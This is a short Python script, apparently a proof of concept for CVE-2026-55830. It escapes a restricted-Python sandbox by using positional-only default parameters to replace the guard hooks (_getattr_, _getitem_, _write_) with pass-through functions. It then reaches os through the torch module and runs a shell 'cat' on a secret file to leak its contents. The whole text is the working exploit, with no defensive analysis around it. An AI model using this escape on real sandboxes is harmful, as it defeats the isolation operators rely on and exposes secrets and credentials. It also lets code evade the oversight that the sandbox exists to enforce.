"""
goal: put a guard of one's own in place of the real one with a positional-only parameter (CVE-2026-55830)
effect: leak
"""

import torch


def raw(obj, name):
    return type.__getattribute__(type(obj), name) if name == "none" else obj


def use(module, _getattr_=raw, _getitem_=raw, _write_=raw, /):
    return module.os.popen("cat " + SECRET_FILE).read()


print(use(torch))
